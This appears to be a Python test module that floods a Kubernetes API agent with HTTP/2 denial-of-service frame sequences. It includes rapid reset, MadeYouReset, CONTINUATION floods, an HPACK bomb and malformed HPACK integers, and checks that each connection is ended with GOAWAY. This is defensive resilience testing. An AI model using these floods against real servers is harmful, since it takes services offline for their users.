"""Floods of frames over HTTP/2: each is ended at its budget, as a user with a token sends it."""

from collections.abc import Callable, Iterator
from typing import Any

from mk8s_agent.wire import hpack_codec
from mk8s_agent.wire.http2 import frames
from tests.attacks.attack import Attack, Load, must
from tests.attacks.report import answers
from tests.attacks.stage import Stage
from tests.attacks.wire import SMALL, Attacker, Http2, indexed, request_frames

_WATCH = "/api/v1/namespaces/default/pods?watch=true"
Flood = Callable[[Attacker, Http2], Iterator[bytes]]


def _flood(flood: Flood, settings: dict[int, int] | None = None) -> Callable[[Attacker], None]:
    """An attack that sends a flood on connection after connection."""

    def act(attacker: Attacker) -> None:
        def one(it: Attacker) -> None:
            connection = it.http2(settings)
            for piece in flood(it, connection):
                connection.send(piece)
                connection.drain()
                if not it.going:
                    return
            connection.drain(0.5)

        attacker.rounds(one, rate=30)

    return act


def _budget(stage: Stage, counts: dict[str, Any]) -> str:
    """Connections were ended by GOAWAY with a code."""
    ended = sum(count for name, count in counts["ends"].items() if name.startswith("GOAWAY"))
    must(ended, f"no connection was told to go: {answers(counts)}")
    return answers(counts)


def _block(attacker: Attacker, *more: tuple[bytes, bytes], user: str | None = "reader") -> bytes:
    return hpack_codec.block(attacker.head(SMALL, user, more=more))


def _post(attacker: Attacker) -> bytes:
    path = "/api/v1/namespaces/default/configmaps"
    length = (b"content-length", b"5")
    return hpack_codec.block(attacker.head(path, "dev", method=b"POST", more=[length]))


def rapid_reset(attacker: Attacker, connection: Http2) -> Iterator[bytes]:
    block = _block(attacker)
    while True:
        pieces = []
        for _ in range(20):
            number = connection.stream()
            pieces += [request_frames(number, block), frames.rst_stream(number, 8)]
        attacker.counts.requests += 20
        yield b"".join(pieces)


def rapid_reset_stranger(attacker: Attacker, connection: Http2) -> Iterator[bytes]:
    block = _block(attacker, user=None)
    while True:
        number = connection.stream()
        attacker.counts.requests += 1
        yield request_frames(number, block) + frames.rst_stream(number, 8)


def made_you_reset_window(attacker: Attacker, connection: Http2) -> Iterator[bytes]:
    """CVE-2025-8671: frames that make central reset."""
    block = _post(attacker)
    while True:
        number = connection.stream()
        attacker.counts.requests += 1
        yield request_frames(number, block, 0) + frames.window_update(number, 0)


def made_you_reset_length(attacker: Attacker, connection: Http2) -> Iterator[bytes]:
    block = _post(attacker)
    while True:
        number = connection.stream()
        attacker.counts.requests += 1
        yield request_frames(number, block, 0) + frames.frame(0, 1, number, b"123456789")


def made_you_reset_overflow(attacker: Attacker, connection: Http2) -> Iterator[bytes]:
    block = _post(attacker)
    while True:
        number = connection.stream()
        attacker.counts.requests += 1
        yield request_frames(number, block, 0) + frames.window_update(number, frames.MAX_WINDOW)


def continuation_empty(attacker: Attacker, connection: Http2) -> Iterator[bytes]:
    yield frames.frame(frames.HEADERS, 1, 1, _block(attacker)[:16_000])
    while True:
        yield frames.frame(frames.CONTINUATION, 0, 1) * 100


def continuation_large(attacker: Attacker, connection: Http2) -> Iterator[bytes]:
    yield frames.frame(frames.HEADERS, 1, 1, _block(attacker)[:16_000])
    while True:
        yield frames.frame(frames.CONTINUATION, 0, 1, hpack_codec.literal(b"x", b"y" * 16_000))


def ping(attacker: Attacker, connection: Http2) -> Iterator[bytes]:
    while True:
        yield frames.frame(frames.PING, 0, 0, b"12345678") * 100


def settings(attacker: Attacker, connection: Http2) -> Iterator[bytes]:
    while True:
        yield frames.settings({3: 100}) * 100


def settings_windows(attacker: Attacker, connection: Http2) -> Iterator[bytes]:
    """100 open watches, and their windows changed without end."""
    block = hpack_codec.block(attacker.head(_WATCH, "reader"))
    for _ in range(100):
        yield request_frames(connection.stream(), block)
    while True:
        yield (frames.settings({4: 1}) + frames.settings({4: 65_535})) * 20


def priority(attacker: Attacker, connection: Http2) -> Iterator[bytes]:
    while True:
        yield frames.frame(frames.PRIORITY, 0, 1, b"\0\0\0\0\x10") * 100


def empty_data(attacker: Attacker, connection: Http2) -> Iterator[bytes]:
    yield request_frames(1, _post(attacker), 0)
    while True:
        yield frames.frame(frames.DATA, 0, 1) * 200


def padded_data(attacker: Attacker, connection: Http2) -> Iterator[bytes]:
    """DATA that is padding only."""
    yield request_frames(1, _post(attacker), 0)
    while True:
        yield frames.frame(frames.DATA, frames.PADDED, 1, b"\xff" + bytes(255)) * 100


def window_updates(attacker: Attacker, connection: Http2) -> Iterator[bytes]:
    while True:
        yield frames.window_update(0, 1) * 100


def unknown_frames(attacker: Attacker, connection: Http2) -> Iterator[bytes]:
    while True:
        yield frames.frame(0xBE, 0, 0, b"x") * 100


def hpack_bomb(attacker: Attacker, connection: Http2) -> Iterator[bytes]:
    """CVE-2016-6581: 3.9 KB in the table, named 8,000 times in a block."""
    yield request_frames(connection.stream(), _block(attacker) + indexed(b"x", b"v" * 3900))
    block = _block(attacker) + b"\xbe" * 8000
    while True:
        attacker.counts.requests += 1
        yield request_frames(connection.stream(), block)


def hpack_empty_fields(attacker: Attacker, connection: Http2) -> Iterator[bytes]:
    """A stranger's block of 190,000 fields of one byte each: nothing, named again and again."""
    attacker.counts.requests += 1
    block = hpack_codec.block(attacker.head("/api/v1/pods")) + indexed(b"", b"")
    yield request_frames(connection.stream(), block + b"\xbe" * 190_000)
    connection.drain(0.2)


def hpack_integers(attacker: Attacker, connection: Http2) -> Iterator[bytes]:
    """CVE-2026-59980: an integer whose bytes do not end."""
    while True:
        attacker.counts.requests += 1
        yield request_frames(connection.stream(), _block(attacker) + b"\x7f" + b"\xff" * 12_000)


def broken_blocks(attacker: Attacker, connection: Http2) -> Iterator[bytes]:
    """A block that ends in the middle of a field, from a stranger: the codec panics on it."""
    attacker.counts.requests += 1
    yield request_frames(connection.stream(), b"\x40\x05:path\x05/")
    connection.drain(0.2)


def hpack_table_sizes(attacker: Attacker, connection: Http2) -> Iterator[bytes]:
    """Size updates of the table without end, at the start of a block."""
    while True:
        attacker.counts.requests += 1
        block = b"\x20\x3f\xe1\x1f" * 2000 + _block(attacker)
        yield request_frames(connection.stream(), block)


def upgrade_settings(attacker: Attacker, connection: Http2) -> Iterator[bytes]:
    """PUSH_PROMISE and frames on stream 0: what a client must not send."""
    yield frames.frame(frames.PUSH_PROMISE, 4, 1, b"\0\0\0\2" + _block(attacker)[:1000])


def zero_windows(attacker: Attacker) -> None:
    """Small answers that cannot be sent: 100 requests each on 40 connections, window 0."""
    block = _block(attacker)
    held = []
    for number in range(40):
        if not attacker.going:
            break
        connection = attacker.http2({4: 0}, source=f"127.0.9.{1 + number % 60}")
        connection.send(*(request_frames(connection.stream(), block) for _ in range(100)))
        attacker.counts.requests += 100
        connection.drain(0.05)
        held.append(connection)
    while attacker.pace(2, "looks"):
        for connection in list(held):
            try:
                connection.drain()
            except OSError as error:
                held.remove(connection)
                attacker.counts.ends[str(error)] += 1


def _user(name: str, point: str, what: str, flood: Flood, **more: Any) -> Load:
    return Load(f"flood-{name}", point, what, _flood(flood), **({"judge": _budget} | more))


ATTACKS: tuple[Attack, ...] = (
    _user("rapid-reset", "D1", "requests that are reset at once (CVE-2023-44487)", rapid_reset),
    _user(
        "rapid-reset-stranger", "D1", "the same without a token", rapid_reset_stranger, judge=None
    ),
    _user(
        "made-reset-window",
        "D1",
        "updates of 0, which must be reset (CVE-2025-8671)",
        made_you_reset_window,
    ),
    _user(
        "made-reset-length",
        "D1",
        "more body than was announced (CVE-2025-8671)",
        made_you_reset_length,
    ),
    _user(
        "made-reset-overflow",
        "D1",
        "windows that overflow (CVE-2025-8671)",
        made_you_reset_overflow,
    ),
    _user("continuation-empty", "D2", "empty CONTINUATION frames", continuation_empty),
    _user(
        "continuation-large",
        "D2",
        "CONTINUATION frames of 16 KB (CVE-2023-45288)",
        continuation_large,
    ),
    _user("ping", "D4", "PINGs", ping),
    _user("settings", "D4", "SETTINGS", settings),
    _user("settings-windows", "D4", "100 watches, their windows changed", settings_windows),
    _user("priority", "D4", "PRIORITY frames", priority),
    _user("empty-data", "D4", "empty DATA frames", empty_data),
    _user("padded-data", "D4", "DATA frames that are padding", padded_data),
    _user("window-updates", "D4", "updates of one byte", window_updates),
    _user("unknown-frames", "D4", "frames of no known kind", unknown_frames),
    _user("hpack-bomb", "D3", "a table's entry named 8,000 times (CVE-2016-6581)", hpack_bomb),
    _user(
        "hpack-empty-fields",
        "D3, 15",
        "a stranger's blocks of 190,000 empty fields",
        hpack_empty_fields,
    ),
    _user("hpack-integers", "D3", "integers without an end (CVE-2026-59980)", hpack_integers),
    _user("hpack-table-sizes", "D3", "thousands of size updates in a block", hpack_table_sizes),
    _user("broken-blocks", "D3", "a stranger's blocks that end within a field", broken_blocks),
    _user("push-promise", "13 h2", "PUSH_PROMISE of a client", upgrade_settings),
    Load("flood-zero-windows", "D6", "4,000 small answers that nobody lets through", zero_windows),
)
